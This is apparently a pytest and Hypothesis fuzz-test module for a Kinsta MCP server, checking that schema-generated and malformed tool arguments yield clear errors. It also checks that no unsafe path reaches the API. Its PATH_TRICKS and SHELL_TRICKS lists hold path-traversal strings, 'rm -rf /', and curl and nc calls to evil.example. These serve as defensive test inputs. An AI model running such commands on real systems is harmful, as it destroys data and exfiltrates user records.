"""Fuzzing every tool: arguments generated from its advertised input schema, and malformed ones.

Every call returns a result or a clear tool error (never a protocol error or a crash), the
server keeps serving, and no request leaves with an unvalidated path segment.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote

import pytest
from anyio.from_thread import BlockingPortal, start_blocking_portal
from harness import World, call_of, client, known_ids, text_of, world
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mcp.shared.exceptions import MCPError

from kinsta_mcp.catalog import BY_NAME
from kinsta_mcp.catalog.spec import ID_PATTERN
from kinsta_mcp.server.compiled import WAIT_TOOL_NAME, compile_operation, compiled_tools
from kinsta_mcp.simulator import seed as ids

MODE = "legacy"
TOOL_NAMES = list(compiled_tools())  # every tool a server can show (confirmation off: all are)
# A path segment that left the process: a literal of a declared path, or an id matching the catalog's rule.
SAFE_SEGMENT = re.compile(r"^[A-Za-z0-9][A-Za-z0-9_.:-]{0,127}$")
EXAMPLES = settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    database=None,
    derandomize=True,  # the same examples on every run: a failure here is a finding, never a flake
)

# -- a strategy from a JSON schema (hypothesis-jsonschema is not a dependency) ------------------------


def from_schema(schema: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values valid for `schema`: types, enums, bounds, patterns, arrays and objects."""
    if "$ref" in schema:
        return from_schema(defs[schema["$ref"].split("/")[-1]], defs)
    for key in ("anyOf", "oneOf"):
        if key in schema:
            return st.one_of([from_schema(arm, defs) for arm in schema[key]])
    if "const" in schema:
        return st.just(schema["const"])
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    kind = schema.get("type")
    if isinstance(kind, list):
        return st.one_of([from_schema({**schema, "type": k}, defs) for k in kind])
    if kind == "null":
        return st.none()
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        low = schema.get("minimum", schema.get("exclusiveMinimum", -(2**31) - 1) + 1)
        high = schema.get("maximum", schema.get("exclusiveMaximum", 2**31 + 1) - 1)
        return st.integers(low, high)
    if kind == "number":
        return st.floats(schema.get("minimum"), schema.get("maximum"), allow_nan=False, allow_infinity=False)
    if kind == "string":
        if "pattern" in schema:
            return st.from_regex(schema["pattern"], fullmatch=True).filter(
                lambda s: schema.get("minLength", 0) <= len(s) <= schema.get("maxLength", 10**6)
            )
        low = schema.get("minLength", 0)
        return st.text(min_size=low, max_size=max(low, schema.get("maxLength", low + 40)))
    if kind == "array":
        low = schema.get("minItems", 0)
        return st.lists(from_schema(schema.get("items", {}), defs), min_size=low, max_size=max(low, 3))
    if kind == "object" or "properties" in schema:
        props = {k: with_id_rule(k, v) for k, v in schema.get("properties", {}).items()}
        required = set(schema.get("required", []))
        return st.fixed_dictionaries(
            {k: from_schema(v, defs) for k, v in props.items() if k in required},
            optional={k: from_schema(v, defs) for k, v in props.items() if k not in required},
        )
    return st.none() | st.booleans() | st.integers() | st.text(max_size=20)  # {}: anything


def valid_calls(name: str, schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Arguments drawn from the listed schema; for a grouped tool, per selector value from that member's
    own schema (an argument the group lists as "required for scope=site" is required there)."""
    tool = compiled_tools()[name]
    if tool.selector is None:
        return from_schema(given_filled(schema, tool.operations.values()), schema.get("$defs", {}))
    return st.one_of(
        [
            from_schema(given_filled(compile_operation(op).input_schema, [op]), {}).map(
                lambda args, value=value: {tool.selector: value, **args}
            )
            for value, op in tool.operations.items()
        ]
    )


def given_filled(schema: dict[str, Any], ops: Any) -> dict[str, Any]:
    """`schema` with what the server fills from the environment required: earlier calls here delete the
    seeded sites, after which nothing can be filled and a call that left it out would never reach Kinsta."""
    filled = {name for op in ops for name in op.from_environment}
    return {**schema, "required": sorted({*schema.get("required", []), *filled})} if filled else schema


KNOWN_IDS = sorted({v for v in known_ids().values() if isinstance(v, str)} | {ids.ACME_LIVE_ENV_ID})
# An environment argument gets an environment's id: a push fills its site from its source environment.
KNOWN_ENV_IDS = sorted({ids.ACME_LIVE_ENV_ID, ids.ACME_STAGING_ENV_ID})


def with_id_rule(name: str, schema: dict[str, Any]) -> dict[str, Any]:
    """The id rule is stated once in the server instructions, not in each schema: apply it to id arguments."""
    if not (name.endswith("_id") or name.endswith("_ids")):
        return schema
    if schema.get("type") == "string" and "pattern" not in schema:
        # Mostly ids that exist (a call with several must reach Kinsta sometimes), some that merely look right.
        known = KNOWN_ENV_IDS if name.endswith("env_id") else KNOWN_IDS
        return {"anyOf": [{**schema, "pattern": ID_PATTERN}, {"enum": known}, {"enum": known}]}
    if schema.get("type") == "array" and schema.get("items", {}).get("type") == "string":
        return {**schema, "items": with_id_rule(name, schema["items"])}
    return schema


PATH_TRICKS = [
    "../etc/passwd",
    "..",
    ".",
    "a/b",
    "/",
    "%2F",
    "a%2Fb",
    "x/../../sites",
    "..%2F..",
    "a\\b",
    "a?b=c",
    "a#b",
]
SHELL_TRICKS = [
    "wp plugin list; rm -rf /",
    "wp option get siteurl && curl http://evil.example",
    "wp user list | nc evil.example 80",
    "$(cat /etc/passwd)",
    "`id`",
    "wp eval 'system(\"id\");'",
    "wp plugin list\nrm -rf /",
    "wp --exec='phpinfo();' plugin list",
]
MALFORMED_VALUES = st.one_of(
    st.sampled_from(PATH_TRICKS + SHELL_TRICKS),
    st.integers(),
    st.floats(allow_nan=True),
    st.booleans(),
    st.none(),
    st.lists(st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    st.sampled_from(["A" * 100_000, "é" * 50_000, "\u202e\u200b\x00\ufeff", "🙂" * 1000]),
)


def malformed(schema: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Valid arguments with one replaced by a malformed value, or an unknown one added."""
    props = list(schema.get("properties", {}))

    def spoil(args: dict[str, Any], draw: Any) -> dict[str, Any]:
        target = draw(st.sampled_from([*props, "unknown_argument"]))
        return {**args, target: draw(MALFORMED_VALUES)}

    return st.builds(lambda args, data: spoil(args, data.draw), from_schema(schema, defs), st.data())


# -- one server for the whole module, driven from hypothesis' synchronous tests ------------------------
#
# Hypothesis draws the arguments (synchronously); each test then sends its whole batch in one hop
# to the server's event loop: a thread hop per call cost more than the call itself.


def drawn(strategy: st.SearchStrategy[Any]) -> list[Any]:
    """Up to EXAMPLES' count of values from `strategy` (fewer when it has fewer distinct ones)."""
    found: list[Any] = []

    @EXAMPLES
    @given(strategy)
    def collect(value: Any) -> None:
        found.append(value)

    collect()
    return found


class Served:
    def __init__(self, portal: BlockingPortal, w: World, c: Any) -> None:
        self.portal = portal
        self.world = w
        self.client = c
        self.schemas = {t.name: t.input_schema for t in portal.call(c.list_tools).tools}

    def check(self, name: str, batch: list[dict[str, Any]]) -> int:
        """Every call of the batch gives a result or a clear error and sends nothing unsafe; then a read
        still works. Returns how many requests the batch sent to Kinsta."""
        return self.portal.call(self._check, name, batch)

    async def _check(self, name: str, batch: list[dict[str, Any]]) -> int:
        before = len(self.world.sim.requests)
        for args in batch:
            await self._check_call(name, args)
        sent = len(self.world.sim.requests) - before
        self.world.sim.faults.clear()
        result = await self.client.call_tool("list_sites", {})
        assert not result.is_error, f"no longer serving after {name}: {text_of(result)}"
        return sent

    async def _check_call(self, name: str, args: dict[str, Any]) -> None:
        log = self.world.sim.requests
        await self.world.budget_frees()  # a slot for the call (Kinsta allows 5 creations a minute)
        before = len(log)
        try:
            result = await self.client.call_tool(name, args)
        except MCPError as exc:  # a protocol error: the call did not even produce a result
            pytest.fail(f"{name}({args!r:.300}) raised a protocol error: {exc}")
        text = text_of(result)
        if result.is_error:
            # A clear tool error says what was wrong; a crash would only say "Error executing tool <name>".
            assert text.strip() and text.strip() != f"Error executing tool {name}", (
                f"{name}: unclear error {text!r:.300}"
            )
        for request in log[before:]:
            raw = request.raw_path
            assert not {"%2f", "%5c", "%2e"} & {raw[i : i + 3].lower() for i in range(len(raw))}, f"{name} sent {raw}"
            segments = [unquote(s) for s in raw.strip("/").split("/")]  # ":" is allowed in ids and sent as %3A
            assert all(SAFE_SEGMENT.fullmatch(s) for s in segments), f"{name} sent {raw}"
            assert ".." not in raw


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    # confirmation="off": guarded tools really send, so their requests are checked too
    with (
        start_blocking_portal() as portal,
        portal.wrap_async_context_manager(world(confirmation="off")) as w,
        portal.wrap_async_context_manager(client(w.server, MODE)) as c,
    ):
        yield Served(portal, w, c)


@pytest.mark.parametrize("name", TOOL_NAMES)
def test_generated_arguments_give_a_result_or_a_clear_error(served: Served, name: str) -> None:
    schema = served.schemas[name]
    batch = drawn(valid_calls(name, schema))
    assert batch
    reached = served.check(name, batch)
    # run_batch's arguments name other tools and targets: random ones rarely make a plan, and its
    # own property test (tests/server/test_fleet.py) drives valid ones.
    # Here: answers, never a crash.
    assert reached > 0 or name == "run_batch", f"no generated call of {name} reached Kinsta"


@pytest.mark.parametrize("name", TOOL_NAMES)
def test_malformed_arguments_give_a_clear_error_and_send_nothing_unsafe(served: Served, name: str) -> None:
    schema = served.schemas[name]
    batch = drawn(malformed(schema, schema.get("$defs", {})))
    assert batch
    served.check(name, batch)


@pytest.mark.parametrize("trick", PATH_TRICKS)
def test_an_id_that_would_change_the_path_is_refused_before_sending(served: Served, trick: str) -> None:
    log = served.world.sim.requests
    before = len(log)
    ids_only = [
        call_of(BY_NAME["remove_sftp_account"], {"sftp_account_id": trick}),
        (WAIT_TOOL_NAME, {"operation_id": trick}),
    ]
    for name, args in ids_only:
        result = served.portal.call(served.client.call_tool, name, args)
        argument = next(a for a in args if args[a] == trick)
        assert result.is_error, name
        assert f"{argument}: got" in text_of(result) or f"{argument}: required" in text_of(result), text_of(result)
        assert "letters, digits and _ . : - only" in text_of(result), text_of(result)
    assert log[before:] == []
    # Site and environment arguments also take names: a trick is looked up as one (the cached site
    # list is the only request) and refused as unknown; it never reaches a path.
    for name, args in [
        call_of(BY_NAME["get_site"], {"site_id": trick}),
        call_of(BY_NAME["list_backups"], {"env_id": trick}),
    ]:
        result = served.portal.call(served.client.call_tool, name, args)
        argument = next(a for a in args if args[a] == trick)
        assert result.is_error and argument in text_of(result), text_of(result)
    assert {f"{r.method} {r.path}" for r in log[before:]} <= {"GET /sites"}


@pytest.mark.parametrize("command", sorted(SHELL_TRICKS))
def test_shell_metacharacters_in_a_wp_cli_command_are_refused_before_sending(served: Served, command: str) -> None:
    log = served.world.sim.requests
    before = len(log)
    name, args = call_of(BY_NAME["run_wp_cli"], {"env_id": ids.ACME_LIVE_ENV_ID, "wp_command": command})
    result = served.portal.call(served.client.call_tool, name, args)
    assert result.is_error and "wp_command" in text_of(result), text_of(result)
    assert log[before:] == []
